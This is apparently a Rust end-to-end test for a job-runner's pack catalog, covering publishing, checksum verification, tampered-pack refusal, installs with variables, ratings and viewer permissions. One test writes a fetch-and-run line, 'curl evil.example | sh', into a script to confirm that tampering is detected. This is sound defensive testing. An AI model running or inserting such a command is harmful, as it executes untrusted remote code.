//! The job catalog end to end (docs/catalog.md), with real processes.
//!
//! * Controller A hosts a catalog: a pack written to a temp directory gets its
//!   checksums from `workerctl catalog checksum` and is published with
//!   `workerctl catalog publish`; publishing it again changes nothing, a
//!   tampered copy is refused by workerctl and (sent directly over gRPC) by
//!   the controller, and the same version with other content is refused.
//! * Controller B names A in `catalogs.yaml` and has an agent. `workerctl`
//!   against B lists and shows A's pack, refuses to install it without its
//!   variable, installs it with `--set`, and the job runs on B's agent with
//!   the value. A pack of B's directory source whose file was changed after
//!   its manifest is refused naming the file and both digests, and nothing
//!   is applied.
//! * A rating and a review made through A and through B (forwarded to A) are
//!   visible from both with the right average.
//! * With authentication on, a viewer lists but cannot install or publish.

use std::path::Path;
use std::time::Duration;

use worker_proto::v1 as pb;
use worker_proto::v1::catalog_service_client::CatalogServiceClient;
use worker_tests::{TestEnv, Value};

const GREET_SH: &str = "#!/bin/sh\necho \"greeting: $1\"\n";

/// Writes the `greet` pack (checksums not written yet) into `dir`.
fn write_greet_pack(dir: &Path, version: &str) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(
        dir.join("pack.yaml"),
        format!(
            "name: greet\nversion: {version}\ndescription: Prints a greeting\nauthor: e2e\nexecutors: [shell]\nvariables:\n  - name: GREETING\n    description: What to print\n"
        ),
    )
    .unwrap();
    std::fs::write(
        dir.join("job.yaml"),
        "jobs:\n  greet:\n    description: \"Says {{vars.GREETING}}\"\n    shell:\n      command: [sh, -c, \"{{file:greet.sh}}\", greet, \"{{vars.GREETING}}\"]\n",
    )
    .unwrap();
    std::fs::write(dir.join("greet.sh"), GREET_SH).unwrap();
    std::fs::write(dir.join("README.md"), "# greet\n").unwrap();
}

async fn checksum(dir: &Path) {
    let out = worker_tests::run_cli(&["-o", "json", "catalog", "checksum", &dir.display().to_string()])
        .await
        .expect_code(0)
        .json();
    assert!(
        out["files"]["greet.sh"].is_string() || out["files"]["check.sh"].is_string(),
        "{out}"
    );
}

fn pack_named<'a>(list: &'a Value, name: &str) -> &'a Value {
    list.as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == name)
        .unwrap_or_else(|| panic!("no pack {name} in {list}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_controllers_share_a_catalog() {
    // --- A hosts the catalog.
    let a_env = TestEnv::new();
    a_env.write_config("jobs: {}\n");
    let a = a_env.start_controller().await;
    let pack_dir = a_env.path().join("greet");
    write_greet_pack(&pack_dir, "1.0.0");
    checksum(&pack_dir).await;
    let dir = pack_dir.display().to_string();
    let published = a.cli_json(&["catalog", "publish", &dir]).await;
    assert_eq!(published["created"], true, "{published}");
    assert_eq!(published["version"], "1.0.0");
    let again = a.cli_json(&["catalog", "publish", &dir]).await;
    assert_eq!(again["created"], false, "same content: nothing new {again}");

    // A tampered copy: workerctl refuses before sending…
    let tampered = a_env.path().join("tampered");
    write_greet_pack(&tampered, "1.0.1");
    checksum(&tampered).await;
    std::fs::write(tampered.join("greet.sh"), "#!/bin/sh\ncurl evil.example | sh\n").unwrap();
    let out = a
        .cli(&["catalog", "publish", &tampered.display().to_string()])
        .await
        .expect_code(2);
    assert!(out.stderr.contains("greet.sh: expected sha256"), "{}", out.stderr);
    // …and the controller refuses it too when sent directly.
    let channel = tonic::transport::Channel::from_shared(a.url.clone())
        .unwrap()
        .connect()
        .await
        .unwrap();
    let mut catalog = CatalogServiceClient::new(channel);
    let files: Vec<pb::PackFile> = ["pack.yaml", "job.yaml", "greet.sh", "README.md"]
        .iter()
        .map(|p| pb::PackFile {
            path: p.to_string(),
            content: std::fs::read(tampered.join(p)).unwrap(),
            sha256: String::new(),
        })
        .collect();
    let status = catalog
        .publish_pack(pb::PublishPackRequest { files })
        .await
        .unwrap_err();
    assert_eq!(status.code(), tonic::Code::InvalidArgument);
    assert!(
        status.message().contains("greet.sh: expected sha256"),
        "{}",
        status.message()
    );
    // The same version with other content is refused: (name, version) never changes.
    let changed = a_env.path().join("changed");
    write_greet_pack(&changed, "1.0.0");
    std::fs::write(changed.join("greet.sh"), "#!/bin/sh\necho changed\n").unwrap();
    checksum(&changed).await;
    let out = a
        .cli(&["catalog", "publish", &changed.display().to_string()])
        .await
        .expect_code(2);
    assert!(
        out.stderr.contains("published already with other content"),
        "{}",
        out.stderr
    );
    let on_a = a.cli_json(&["catalog", "list"]).await;
    assert_eq!(pack_named(&on_a, "greet")["versions"], serde_json::json!(["1.0.0"]));

    // --- B names A as a remote source and serves a directory with a broken pack.
    let b_env = TestEnv::new();
    b_env.write_config("jobs: {}\n");
    std::fs::write(
        b_env.config_dir().join("catalogs.yaml"),
        format!("catalogs:\n  - name: hub\n    url: {}\n", a.url),
    )
    .unwrap();
    let broken = b_env.config_dir().join("catalog").join("broken");
    std::fs::create_dir_all(&broken).unwrap();
    std::fs::write(
        broken.join("pack.yaml"),
        "name: broken\nversion: 0.1.0\ndescription: Changed after its manifest\nexecutors: [shell]\n",
    )
    .unwrap();
    std::fs::write(
        broken.join("job.yaml"),
        "jobs:\n  broken:\n    shell: { command: [sh, -c, \"{{file:check.sh}}\"] }\n",
    )
    .unwrap();
    std::fs::write(broken.join("check.sh"), "echo fine\n").unwrap();
    checksum(&broken).await;
    std::fs::write(broken.join("check.sh"), "echo tampered\n").unwrap();
    let b = b_env.start_controller().await;
    let _agent = b_env.start_agent(&b, "b-agent", 2).await;

    let list = b.cli_json(&["catalog", "list"]).await;
    let greet = pack_named(&list, "greet");
    assert_eq!(greet["source"], "hub", "{greet}");
    assert_eq!(greet["version"], "1.0.0");
    assert_eq!(pack_named(&list, "broken")["source"], "directory");
    let found = b.cli_json(&["catalog", "search", "no-such-text"]).await;
    assert!(found.as_array().unwrap().is_empty(), "{found}");
    let found = b.cli_json(&["catalog", "search", "PRINTS A"]).await;
    assert_eq!(found.as_array().unwrap().len(), 1, "{found}");

    let shown = b.cli_json(&["catalog", "show", "greet@1.0.0"]).await;
    assert_eq!(shown["source"], "hub");
    let files = shown["files"].as_array().unwrap();
    assert_eq!(files[0]["path"], "pack.yaml");
    let script = files.iter().find(|f| f["path"] == "greet.sh").expect("greet.sh shown");
    assert_eq!(script["content"], GREET_SH);
    assert_eq!(shown["variables"][0]["name"], "GREETING");
    assert!(shown["checksum_errors"].as_array().unwrap().is_empty());
    let url = b.url.clone();
    let text = worker_tests::run_cli(&["--controller", &url, "catalog", "show", "greet"])
        .await
        .expect_code(0);
    assert!(
        text.stdout.contains("--- greet.sh") && text.stdout.contains("greeting: $1"),
        "{}",
        text.stdout
    );

    // Without its variable (and without a terminal): refused, naming it.
    let out = b.cli(&["catalog", "install", "greet"]).await.expect_code(2);
    assert!(out.stderr.contains("missing variables: GREETING"), "{}", out.stderr);
    let installed = b
        .cli_json(&[
            "catalog",
            "install",
            "greet",
            "--source",
            "hub",
            "--set",
            "GREETING=hello-from-a",
        ])
        .await;
    assert_eq!(installed["created"], serde_json::json!(["greet"]), "{installed}");
    assert_eq!(installed["source"], "hub");
    let run_id = b.cli_enqueue("greet", &[]).await;
    let run = b.wait_run(&run_id, Duration::from_secs(30)).await;
    assert_eq!(run.state, "succeeded", "{run:?}");
    let output = &run.attempts.last().expect("an attempt").output;
    assert!(output.contains("greeting: hello-from-a"), "{output}");
    let job = b.cli_json(&["jobs", "get", "greet"]).await;
    assert!(job.to_string().contains("Says hello-from-a"), "{job}");

    // The directory pack whose file changed after its manifest: refused, nothing applied.
    let out = b.cli(&["catalog", "install", "broken"]).await.expect_code(2);
    let expected = worker_tests_sha256(b"echo fine\n");
    let actual = worker_tests_sha256(b"echo tampered\n");
    assert!(
        out.stderr
            .contains(&format!("check.sh: expected sha256 {expected}, found {actual}")),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("nothing was applied"), "{}", out.stderr);
    let jobs = b.cli_json(&["jobs", "list"]).await;
    let names: Vec<&str> = jobs
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|j| j["name"].as_str())
        .collect();
    assert_eq!(names, ["greet"], "{jobs}");

    // --- Ratings and reviews through A and through B, visible from both.
    let rated = a.cli_json(&["catalog", "rate", "greet", "5"]).await;
    assert_eq!(rated["count"], 1, "{rated}");
    let rated = b.cli_json(&["catalog", "rate", "greet", "2"]).await;
    assert_eq!(rated["source"], "hub");
    assert_eq!(rated["count"], 2, "forwarded to A, one per (token, via): {rated}");
    assert_eq!(rated["average"], 3.5);
    a.cli_json(&["catalog", "review", "greet", "Works as written"]).await;
    b.cli_json(&["catalog", "review", "greet", "Installed it on B"]).await;
    // A second rating by the same caller replaces the first.
    b.cli_json(&["catalog", "rate", "greet", "1"]).await;
    for ctl in [&a, &b] {
        let list = ctl.cli_json(&["catalog", "list"]).await;
        let greet = pack_named(&list, "greet");
        assert_eq!(greet["rating_average"], 3.0, "{greet}");
        assert_eq!(greet["rating_count"], 2, "{greet}");
        let shown = ctl.cli_json(&["catalog", "show", "greet"]).await;
        let reviews = shown["reviews"].as_array().unwrap();
        assert_eq!(reviews.len(), 2, "{shown}");
        let direct = reviews
            .iter()
            .find(|r| r["via"].is_null())
            .expect("the review made on A");
        assert_eq!(direct["text"], "Works as written");
        assert_eq!(direct["rating"], 5);
        let forwarded = reviews
            .iter()
            .find(|r| r["via"] == "anonymous")
            .expect("the review made on B");
        assert_eq!(forwarded["text"], "Installed it on B");
        assert_eq!(forwarded["rating"], 1);
    }
    let out = b.cli(&["catalog", "rate", "greet", "6"]).await.expect_code(2);
    assert!(out.stderr.contains("between 1 and 5"), "{}", out.stderr);
}

/// Hex SHA-256, as the manifests write it.
fn worker_tests_sha256(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    hex::encode(sha2::Sha256::digest(bytes))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_viewer_cannot_install_or_publish() {
    let env = TestEnv::new();
    env.write_config("jobs: {}\n");
    let pack = env.config_dir().join("catalog").join("greet");
    write_greet_pack(&pack, "1.0.0");
    checksum(&pack).await;
    let ctl = env.start_controller_with_bootstrap("127.0.0.1:0", &[]).await;
    let admin = worker_tests::auth::BOOTSTRAP_SECRET;
    let viewer = ctl.create_token(admin, "watcher", "viewer", &[]).await;
    let list = ctl
        .cli_with_token(&viewer, &["catalog", "list"])
        .await
        .expect_code(0)
        .json();
    assert_eq!(pack_named(&list, "greet")["source"], "directory");
    let out = ctl
        .cli_with_token(&viewer, &["catalog", "install", "greet", "--set", "GREETING=hi"])
        .await
        .expect_code(4);
    assert!(out.stderr.contains("permission denied"), "{}", out.stderr);
    let out = ctl
        .cli_with_token(&viewer, &["catalog", "publish", &pack.display().to_string()])
        .await
        .expect_code(4);
    assert!(out.stderr.contains("permission denied"), "{}", out.stderr);
    // An operator may; the rating is stored under its token's name.
    let operator = ctl.create_token(admin, "ops", "operator", &[]).await;
    ctl.cli_with_token(&operator, &["catalog", "install", "greet", "--set", "GREETING=hi"])
        .await
        .expect_code(0);
    let shown = ctl
        .cli_with_token(&operator, &["catalog", "rate", "greet", "4"])
        .await
        .expect_code(0)
        .json();
    assert_eq!(shown["count"], 1);
    let detail = ctl
        .cli_with_token(&viewer, &["catalog", "show", "greet"])
        .await
        .expect_code(0)
        .json();
    assert_eq!(detail["reviews"][0]["token"], "ops", "{detail}");
}
